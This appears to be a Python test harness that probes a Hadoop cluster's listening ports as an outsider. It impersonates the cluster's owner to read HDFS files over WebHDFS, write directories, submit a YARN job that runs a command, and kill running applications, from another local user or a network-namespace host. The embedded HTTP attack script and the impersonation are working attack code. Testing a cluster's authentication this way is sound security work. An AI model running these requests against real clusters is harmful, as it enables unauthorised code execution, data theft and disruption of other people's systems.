"""
An attacker: tries every listening port of a cluster with a submission, a read, a write and a kill.

A *vantage* makes command lines run somewhere: as another user of this machine, on a third host.
What succeeded is named by port; `Knowledge` is what the attacker is given beside it: all that an
insider could have said, but the secret.  Hadoop asks nobody who he is: the attacker says that he is
the user whose cluster it is.
"""

import json
import os
import pwd
import re
import subprocess
import sys

from collections.abc import Callable, Sequence
from contextlib import contextmanager
from dataclasses import asdict, dataclass, replace
from pathlib import Path

HERE = Path(__file__).parent
LIVE = HERE.parent / "live"
LIMIT_S = 280
ALL_TRIED = "all were tried"
STRANGER = "daemon"  # Java's login needs one who has an entry, and runs nothing of ours

Vantage = Callable[[Sequence[str]], list[str]]
Ports = Sequence[tuple[str, int]]

# One argument, JSON; prints {"HOST:PORT": [what succeeded]} of those that could be connected to.
BY_HTTP = r"""
import http.client, json, socket, sys
from concurrent.futures import ThreadPoolExecutor

known = json.loads(sys.argv[1])
app, file, user = known["application"], known["file"], known["user"]
job = app.replace("application", "job")
new = json.dumps({"application-id": app[:-4] + "9999", "application-name": "stolen",
    "application-type": "YARN", "am-container-spec": {"commands": {"command": "id"}},
    "resource": {"memory": 64, "vCores": 1}})
tries = [
    *(("read " + path, "GET", path, None) for path in (
        "/jmx", "/conf", "/logs/", "/stacks", "/cluster", "/ws/v1/cluster/apps",
        "/ws/v1/cluster/nodes", "/ws/v1/history/mapreduce/jobs", "/ws/v1/node/containers",
        "/ws/v1/mapreduce/jobs", "/node/allContainers", "/proxy/" + app + "/",
        "/webhdfs/v1/?op=LISTSTATUS&user.name=" + user,
        "/webhdfs/v1" + file + "?op=OPEN&user.name=" + user,
        "/webhdfs/v1" + file + "?op=OPEN&offset=0&user.name=" + user + "&namenoderpcaddress="
        + known["namenode"],
        "/mapOutput?job=" + job + "&reduce=0&map=attempt" + job[3:] + "_m_000000_0")),
    ("write", "PUT", "/webhdfs/v1/stolen-by-http?op=MKDIRS&user.name=" + user, b""),
    ("new application", "POST", "/ws/v1/cluster/apps/new-application?user.name=" + user, b""),
    ("submit", "POST", "/ws/v1/cluster/apps?user.name=" + user, new),
]
if known["kills"]:
    kill = "/ws/v1/cluster/apps/" + app + "/state?user.name=" + user
    tries.append(("kill", "PUT", kill, json.dumps({"state": "KILLED"})))

def attack(place):
    host, port = place
    try:
        socket.create_connection((host, port), 2).close()
    except OSError:
        return place, None
    succeeded = []
    for what, method, path, body in tries:
        connection = http.client.HTTPConnection(host, port, timeout=6)
        try:
            headers = {"Content-Type": "application/json", "Accept": "*/*"}
            if known["header"]:
                headers[known["header"][0]] = known["header"][1]
            connection.request(method, path, body, headers)
            # 307: a NameNode says which DataNode gives the file
            if connection.getresponse().status in (200, 201, 202, 307):
                succeeded.append("http: " + what)
        except (OSError, http.client.HTTPException):
            pass
        finally:
            connection.close()
    return place, succeeded

with ThreadPoolExecutor(8) as pool:
    attacked = list(pool.map(attack, known["ports"]))
print(json.dumps({"%s:%d" % tuple(place): what for place, what in attacked if what is not None}))
"""


@dataclass(frozen=True)
class Knowledge:
    """
    What the attacker knows of a cluster: a running application, a file of HDFS and a block of it
    (pool, id and generation), the NameNode's RPC address; whether he may kill; a header, if any.
    """

    application: str
    file: str
    block: dict
    namenode: str
    user: str = "hadoop"
    kills: bool = True
    header: tuple[str, str] | None = None


def attack(
    ports: Ports, vantage: Vantage, known: Knowledge, java: Sequence[str]
) -> dict[str, list[str]]:
    """
    What succeeded at each port that could be connected to; *java* starts a JVM with Hadoop's jars.
    """
    facts = {**asdict(known), "ports": [list(place) for place in ports]}
    python = os.path.realpath(sys.executable)
    by_port = json.loads(run(vantage([python, "-I", "-S", "-c", BY_HTTP, json.dumps(facts)])))
    if by_port:
        knowledge_file = run(["mktemp", "--suffix=.json"]).strip()
        Path(knowledge_file).write_text(json.dumps(asdict(known)))
        Path(knowledge_file).chmod(0o644)
        environment = ["env", f"HADOOP_USER_NAME={known.user}", "HOME=/tmp"]
        source = str(HERE / "Attack.java")
        output = run(vantage([*environment, *java, source, knowledge_file, *by_port]))
        Path(knowledge_file).unlink()
        assert ALL_TRIED in output, output
        for line in output.splitlines():
            place, _, what = line.partition(" ")
            if place in by_port:
                by_port[place].append(what)
    return by_port


def succeeded(by_port: dict[str, list[str]]) -> dict[str, list[str]]:
    """
    Ports at which something did.
    """
    return {place: what for place, what in by_port.items() if what}


def run(argv: Sequence[str]) -> str:
    """
    Standard output of a command that succeeds.
    """
    done = subprocess.run(argv, capture_output=True, text=True, timeout=LIMIT_S, check=False)
    assert done.returncode == 0, (argv[:6], done.stdout[-2000:], done.stderr[-2000:])
    return done.stdout


def listening(process_ids: Sequence[int]) -> list[tuple[str, int]]:
    """
    Address and port of each socket that one of these processes of this machine listens on.
    """
    places = set()
    for process_id in process_ids:
        entry = Path(f"/proc/{process_id}")
        try:
            links = [str(link.readlink()) for link in (entry / "fd").iterdir()]
            tables = [(entry / "net" / table).read_text() for table in ("tcp", "tcp6")]
        except OSError:  # it has ended
            continue
        inodes = {
            matched[1] for link in links if (matched := re.fullmatch(r"socket:\[(\d+)\]", link))
        }
        for line in "".join(tables).splitlines():
            columns = line.split()
            if len(columns) > 9 and columns[3] == "0A" and columns[9] in inodes:
                address, _, port = columns[1].partition(":")
                places.add(("loopback" if address.endswith("0100007F") else "", int(port, 16)))
    return sorted(places)


def stranger(needed: Sequence[Path]) -> Vantage:
    """
    Another user of this machine, to whom these folders are shown, wherever they lie (as root).
    """
    reached = ["unshare", "-m", "--propagation", "private", sys.executable]
    show = [str(LIVE / "as_nobody.py"), *map(str, needed), "--"]
    return lambda argv: ["env", f"AS_USER={pwd.getpwnam(STRANGER).pw_uid}", *reached, *show, *argv]


@contextmanager
def third_host():
    """
    A host beside this machine, which it reaches by one address: a vantage, and that address.
    """
    name, here, there = f"third{os.getpid() % 10_000}", "198.19.250.1", "198.19.250.2"
    commands = (
        f"ip netns add {name}",
        f"ip link add {name} type veth peer name eth0 netns {name}",
        f"ip addr add {here}/30 dev {name}",
        f"ip link set {name} up",
        f"ip -n {name} addr add {there}/30 dev eth0",
        f"ip -n {name} link set eth0 up",
        f"ip -n {name} link set lo up",
        f"ip -n {name} route add default via {here}",
        # addresses of clusters with networks of their own lead nowhere, and not out of the machine
        f"ip route append 198.18.0.0/24 dev {name}",
    )
    try:
        for command in commands:
            run(command.split())
        yield (lambda argv: ["ip", "netns", "exec", name, *argv]), here
    finally:
        for command in (f"ip link del {name}", f"ip netns del {name}"):
            subprocess.run(command.split(), capture_output=True, check=False)


def block_below(folder: Path) -> dict:
    """
    A block of a DataNode whose data lie in *folder*: what stands in its path.
    """
    meta = next(folder.rglob("finalized/**/blk_*.meta"))
    pool = next(part for part in meta.parts if part.startswith("BP-"))
    identity, generation = re.fullmatch(r"blk_(\d+)_(\d+)\.meta", meta.name).groups()
    return {"pool": pool, "id": int(identity), "generation": int(generation)}


def with_secret(known: Knowledge, file: Path) -> Knowledge:
    """
    What one knows who may read the secret; he kills nothing.
    """
    header, _, value = file.read_text().strip().partition(": ")
    return replace(known, header=(header, value), kills=False)
